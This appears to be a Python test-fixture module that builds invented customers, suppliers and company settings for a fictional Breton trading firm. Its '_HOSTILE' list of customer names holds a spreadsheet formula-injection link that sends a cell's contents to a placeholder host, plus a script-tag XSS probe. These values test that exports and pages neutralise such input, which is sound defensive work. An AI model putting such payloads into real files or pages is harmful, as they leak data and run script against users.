"""The company of the samples, its customers and its suppliers: invented, in a Breton port."""

from __future__ import annotations

from random import Random
from typing import Any

from tests.samples import numbers
from tests.samples.writing import Row

CUSTOMER_COLUMNS = (
    "Code;Nom;Type;Adresse 1;Adresse 2;Code postal;Ville;Pays;Livraison adresse 1;Livraison code postal;"
    "Livraison ville;Livraison pays;Professionnel;N° TVA;SIREN;SIRET;Numéro fiscal;Régime de TVA;Langue;Devise;"
    "Site web;Étiquettes;Contact;Fonction;Téléphone;Courriel;Langue du contact"
).split(";")
SUPPLIER_COLUMNS = (
    "Code;Raison sociale;Type;Adresse;Code postal;Ville;Pays;N° TVA;SIREN;SIRET;Régime de TVA;Langue;Devise;"
    "Contact;Fonction;Téléphone;Courriel;IBAN;BIC;Titulaire du compte"
).split(";")

_FIRMS = (
    """Armement Le Bihan & Fils|Chantier naval du Guilvinec|Conserverie de l'Odet
Coopérative maritime de Concarneau|Société Générale d'Équipement Portuaire
Ostréiculture Kermarrec|Hôtel de la Pointe du Raz
Brasserie de l'Élorn|Pêcheries Réunies d'Audierne
Voilerie Tréhour|École de voile des Glénan|Mareyage Cœur d'Armor|Criée de Roscoff
Poissonnerie L'Écailler|Salaisons Penn-ar-Bed|Épicerie fine « Au Sel de Guérande »|Quincaillerie Le Gall
Biscuiterie Traou Mad|Comptoir des Algues|Marée d'Iroise|Port de plaisance de Camaret|Ateliers mécaniques Nédélec
Transports Kerboul|Cidrerie du Menez-Hom|Crêperie Ty Coz|Accastillage Diffusion Morlaix|Établissements Goarant
Syndicat intercommunal des Abers|Les Viviers de la Rance|Maison Quéméneur|Plongée Émeraude|Scierie Jaouen
Groupement d'achat des pêcheurs du Ponant, du Trégor, du Léon, de la Cornouaille et du pays Bigouden réunis
""".replace("\n", "|")
    .strip("|")
    .split("|")
)

_TOWNS = """29200 Brest|29000 Quimper|29730 Le Guilvinec|29900 Concarneau|56100 Lorient
22000 Saint-Brieuc|35400 Saint-Malo|29770 Audierne|29680 Roscoff
29570 Camaret-sur-Mer|22500 Paimpol|56170 Quiberon|29217 Le Conquet|44600 Saint-Nazaire
01000 Bourg-en-Bresse""".replace("\n", "|").split("|")
_STREETS = "quai de l'Étoile|rue du Port|rue Émile-Zola|place de la République|rue Traverse|venelle du Pain-Cuit".split(
    "|"
)
_FIRST = "Maëlle|Yann|Gwenaëlle|Loïc|Anne-Sophie|Ronan|Soizic|Hervé|Nolwenn|François-Xavier|Zoé|Tanguy".split("|")
_LAST = "Le Goff|Riou|Kerjean|L'Hostis|Quéré|Morvan|Abgrall|Bozec|Cléac'h|Tanguy|d'Hervé|Nédélec".split("|")

_ABROAD = (
    ("Müller Schiffsausrüstung GmbH", "DE", "28195", "Bremen", "Am Speicher 7"),
    ("Scheepsbenodigdheden Van den Brœck BV", "NL", "3011 AB", "Rotterdam", "Wijnhaven 12"),
    ("Náutica Peñíscola, S.L.", "ES", "12598", "Peñíscola", "Avenida del Mar 4"),
    ("Cantiere dell'Adriatico S.r.l.", "IT", "60121", "Ancona", "Via della Loggia 3"),
    ("Conservas do Açor, Lda", "PT", "9500-150", "Ponta Delgada", "Rua do Mercado 21"),
    ("Brasserie & Négoce d'Ostende SRL", "BE", "8400", "Oostende", "Visserskaai 30"),
    ("Cape Cod Chandlery, Inc.", "US", "02532", "Bourne, MA", "114 Main Street"),
    ("Penzance Marine Supplies Ltd", "GB", "TR18 4AA", "Penzance", "2 Wharf Road"),
    ("Seehandel Zürich AG", "CH", "8001", "Zürich", "Limmatquai 18"),
    ("شركة الملاحة طنجة Tanger Navigation", "MA", "90000", "Tanger", "Port de Tanger Ville, hangar 5"),
    ("株式会社みなと Minato KK", "JP", "231-0001", "Yokohama", "1-1 Shinkō, Naka-ku"),
)
_HOSTILE = (
    '=HYPERLINK("https://exemple.invalid/?x="&A1;"Cliquez")',
    "<script>alert('tiers')</script> & Cie",
    "Société \"Le Quai\"; 'Fils', et associés",
    "⚓ La Bouée 🛟 👩🏽‍✈️",
    "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesellschaftsbetriebsstättenverwaltung",
)
_SUPPLIERS = (
    ("Corderies Bretonnes SA", "FR", "EUR", "29200", "Brest", "Zone du Vernis", "fournisseur"),
    ("Fonderie d'Hennebont", "FR", "EUR", "56700", "Hennebont", "Rue des Forges", "fournisseur"),
    ("Textiles de l'Elbe GmbH", "DE", "EUR", "20095", "Hamburg", "Speicherstraße 2", "fournisseur"),
    ("Oceanic Fittings Ltd", "GB", "GBP", "SO14 2AQ", "Southampton", "Dock Gate 4", "fournisseur"),
    ("Pacific Rope & Chain Co.", "US", "USD", "98101", "Seattle, WA", "Pier 57", "fournisseur"),
    ("大洋漁具株式会社 Taiyō Gyogu KK", "JP", "JPY", "105-0022", "Tōkyō", "Kaigan 1-chōme", "fournisseur"),
    ("Embalagens do Minho, Lda", "PT", "EUR", "4700-001", "Braga", "Rua Nova 8", "fournisseur"),
    ("Vlaamse Conserven NV", "BE", "EUR", "9000", "Gent", "Graslei 11", "fournisseur"),
    ("Utensili Liguri S.p.A.", "IT", "EUR", "16126", "Genova", "Molo Vecchio 2", "fournisseur"),
    ("Van Dijk Veiligheid BV", "NL", "EUR", "1012 AB", "Amsterdam", "Damrak 40", "fournisseur"),
    ("Transports de l'Arrée", "FR", "EUR", "29600", "Morlaix", "Rue de Brest", "prestataire"),
    ("Atlantic Freight Forwarding Inc.", "US", "USD", "10004", "New York, NY", "17 Battery Place", "prestataire"),
)
_PREFIX = {"FR": "+33 2 98", "DE": "+49 421", "NL": "+31 10", "ES": "+34 964", "IT": "+39 071", "PT": "+351 296"}
_PREFIX |= {"BE": "+32 59", "US": "+1 508", "GB": "+44 1736", "CH": "+41 44", "MA": "+212 539", "JP": "+81 45"}


def company(random: Random) -> dict[str, Any]:
    """The trading company: a SAS in Brest, with the people who sign in."""
    siren = numbers.siren(random)
    people = ("administrator", "manager", "sales", "logistics", "purchasing", "accountant", "assistant")
    names = [f"{_FIRST[n]} {_LAST[n]}" for n in range(len(people))]
    return {
        "identity": {
            "name": "COMPTOIR DU PONANT",
            "trade_name": "Le Comptoir du Ponant",
            "legal_form": "SAS",
            "capital": "80000",
            "siren": siren,
            "siret": numbers.siret(siren),
            "registry": "RCS Brest",
            "vat_number": numbers.french_vat(siren),
            "vat_regime": "normal",
            "address": {
                "lines": ["12 quai de la Douane", "Bâtiment « L'Abeille »"],
                "postcode": "29200",
                "city": "Brest",
                "country": "FR",
            },
            "phone": "+33 2 98 00 12 34",
            "email": "contact@ponant.example",
            "website": "https://ponant.example",
            "bank_accounts": [
                {"iban": numbers.iban(random, "FR"), "bic": "CMBRFR2BXXX", "holder": "COMPTOIR DU PONANT"}
            ],
        },
        "terms": {"penalty_rate": "12.40", "quote_validity_days": 30},
        "numbering": {"prefix": "FA{YYYY}-", "digits": 6, "first": 1},
        "operators": [
            {"profile": profile, "name": name, "email": f"{profile}@ponant.example"}
            for profile, name in zip(people, names, strict=True)
        ],
    }


def customers(random: Random) -> list[Row]:
    """Fifty: French firms, a sole trader, private persons, abroad, and hostile names."""
    rows = [_firm(random, name) for name in _FIRMS]
    rows[5]["Type"] = "prospect"
    rows.append(_firm(random, "Erwan PRIGENT EI", siret=True))
    rows += [_person(random, name) for name in ("Jeanne d'Arvor", "Ștefan Țepeș-Kérouédan")]
    rows += [_abroad(random, *entry) for entry in _ABROAD[: 50 - len(rows) - len(_HOSTILE)]]
    rows += [_firm(random, name) for name in _HOSTILE]
    for number, row in enumerate(rows, 1):
        row["Code"] = f"C{number:04d}"
        row["Courriel"] = f"contact{number:02d}@client.example"
    return rows


def _contact(random: Random, country: str) -> Row:
    tail = " ".join(f"{random.randint(0, 99):02d}" for _ in range(3))
    role = random.choice(("Directrice", "Acheteur", "Comptable", "Gérant"))
    name = f"{random.choice(_FIRST)} {random.choice(_LAST)}"
    return {"Contact": name, "Fonction": role, "Téléphone": f"{_PREFIX[country]} {tail}"}


def _town(random: Random) -> Row:
    postcode, _, city = random.choice(_TOWNS).partition(" ")
    street = f"{random.randint(1, 120)} {random.choice(_STREETS)}"
    return {"Adresse 1": street, "Code postal": postcode, "Ville": city, "Pays": "France"}


def _firm(random: Random, name: str, siret: bool = False) -> Row:
    siren = numbers.siren(random)
    row = {"Nom": name, "Type": "client", "Professionnel": True, "SIREN": siren, "N° TVA": numbers.french_vat(siren)}
    row |= _town(random) | _contact(random, "FR") | {"Régime de TVA": "national", "Langue": "fr", "Devise": "EUR"}
    if siret or random.random() < 0.4:
        row["SIRET"] = numbers.siret(siren, random.randint(1, 9))
    if random.random() < 0.25:
        row |= {f"Livraison {key.lower()}": value for key, value in _town(random).items()}
    if random.random() < 0.3:
        row["Étiquettes"] = ", ".join(random.sample(("pêche", "plaisance", "épicerie", "grand compte"), 2))
    return row


def _person(random: Random, name: str) -> Row:
    row = {"Nom": name, "Type": "client", "Professionnel": False, "Régime de TVA": "national", "Langue": "fr"}
    return row | _town(random) | _contact(random, "FR") | {"Contact": name, "Fonction": None, "Devise": "EUR"}


def _abroad(random: Random, name: str, country: str, postcode: str, city: str, street: str) -> Row:
    row: Row = {"Nom": name, "Type": "client", "Professionnel": True, "Pays": country, "Langue": "en"}
    row |= {"Adresse 1": street, "Code postal": postcode, "Ville": city, "Devise": "EUR"}
    row |= _contact(random, country) | {"Langue du contact": "en"}
    if country in ("DE", "NL", "ES", "IT", "PT", "BE"):
        return row | {"N° TVA": numbers.vat(random, country), "Régime de TVA": "intracommunautaire"}
    currency = {"US": "USD", "GB": "GBP", "JP": "JPY"}.get(country, "EUR")
    return (
        row
        | {"Numéro fiscal": f"{country}-{numbers.digits(random, 9)}", "Régime de TVA": "export"}
        | {"Devise": currency}
    )


def suppliers(random: Random) -> list[Row]:
    """Twelve, in four currencies; those outside IBAN countries have no account here."""
    rows = []
    for number, (name, country, currency, postcode, city, street, kind) in enumerate(_SUPPLIERS, 1):
        row: Row = {"Code": f"F{number:03d}", "Raison sociale": name, "Type": kind, "Adresse": street}
        row |= {"Code postal": postcode, "Ville": city, "Pays": country, "Devise": currency}
        row |= _contact(random, country) | {"Courriel": f"sales{number:02d}@fournisseur.example"}
        row["Langue"] = "fr" if country in ("FR", "BE") else "en"
        row["Régime de TVA"] = "intracommunautaire"
        if country == "FR":
            siren = numbers.siren(random)
            row |= {
                "Régime de TVA": "national",
                "SIREN": siren,
                "SIRET": numbers.siret(siren),
                "N° TVA": numbers.french_vat(siren),
            }
        elif country not in ("US", "GB", "JP"):
            row["N° TVA"] = numbers.vat(random, country)
        else:
            row["Régime de TVA"] = "export"
        if country not in ("US", "JP"):
            bank = {"FR": "CMBRFR2B", "DE": "DEUTDEHH", "GB": "BARCGB22", "PT": "CGDIPTPL", "BE": "GEBABEBB"}
            bank |= {"IT": "UNCRITMM", "NL": "ABNANL2A"}
            account = numbers.iban(random, country)
            row |= {"IBAN": account, "BIC": bank[country], "Titulaire du compte": name}
        rows.append(row)
    return rows
